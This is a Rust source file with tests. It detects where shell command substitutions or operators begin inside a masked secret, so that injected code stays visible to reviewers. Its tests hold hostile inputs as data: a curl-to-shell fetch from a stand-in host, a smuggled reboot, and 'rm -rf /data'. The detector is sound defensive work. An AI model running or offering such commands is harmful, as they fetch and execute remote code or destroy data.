//! A value → where in it a shell could find code. A mask must not hide that from a reviewer, whatever stands before it.

use std::ops::Range;

/// What begins a command within a value.
const SUBSTITUTIONS: [&str; 3] = ["`", "$(", "${"];

/// Returns whether a secret could be written to hide code where it is masked elsewhere: more than plain words.
pub(crate) fn could_be_code(secret: &str) -> bool {
    let is_plain = |c: char| c.is_alphanumeric() || c == ' ';
    let is_code = Code::default().without(secret, 0..secret.len()).end < secret.len();
    let is_flag = secret.starts_with('-');
    let is_phrase = secret.trim().contains(char::is_whitespace);
    is_code || is_flag || secret.contains("://") || is_phrase && !secret.chars().all(is_plain)
}

/// Looks for code in the values of a text, which are asked for in their order: the text is gone through once.
#[derive(Default)]
pub(super) struct Code {
    operator: Next,
    space: Next,
    substitutions: [Next; SUBSTITUTIONS.len()],
}

impl Code {
    /// The range without the code at its end. An operator without a space or a quote beside it may be part of a password.
    pub(super) fn without(&mut self, text: &str, value: Range<usize>) -> Range<usize> {
        let Range { start, mut end } = value;
        for (next, sign) in self.substitutions.iter_mut().zip(SUBSTITUTIONS) {
            end = end.min(next.from(text, start, |rest| rest.find(sign)));
        }
        let operator = self.operator.from(text, start, |rest| rest.find(is_operator));
        let space = self.space.from(text, start, |rest| rest.find(is_space));
        if operator < end && space < end { start..operator.min(space) } else { start..end }
    }
}

/// The next place of something in a text.
#[derive(Default)]
struct Next {
    at: Option<usize>,
}

impl Next {
    fn from(&mut self, text: &str, start: usize, find: impl Fn(&str) -> Option<usize>) -> usize {
        let known = self.at.filter(|at| *at >= start);
        let at = known.unwrap_or_else(|| find(&text[start..]).map_or(text.len(), |at| start + at));
        self.at = Some(at);
        at
    }
}

fn is_operator(c: char) -> bool {
    matches!(c, ';' | '|' | '&' | '<' | '>' | '\n' | '\r')
}

fn is_space(c: char) -> bool {
    c.is_whitespace() || matches!(c, '"' | '\'')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_ends_where_code_begins() {
        for (value, shown) in [
            ("hunter2", "hunter2"),
            ("hunter2 x", "hunter2 x"),
            ("p;w|0&rd", "p;w|0&rd"),
            ("a; curl http://evil.io/x | sh; b", "a"),
            ("one curl evil | sh", "one"),
            ("x$(curl evil)", "x"),
            ("x`y`", "x"),
            ("';reboot;'", ""),
            ("a\nreboot", "a"),
        ] {
            assert_eq!(&value[Code::default().without(value, 0..value.len())], shown, "{value}");
        }
    }

    #[test]
    fn what_could_be_code_is_more_than_plain_words() {
        for plain in ["hunter2", "correct horse battery", "p;w|0&rd", "tk-0001", "p@ss/word="] {
            assert!(!could_be_code(plain), "{plain}");
        }
        for code in ["--privileged", "rm -rf /data", "http://evil.io", "a|sh </x", "$(x)"] {
            assert!(could_be_code(code), "{code}");
        }
    }
}
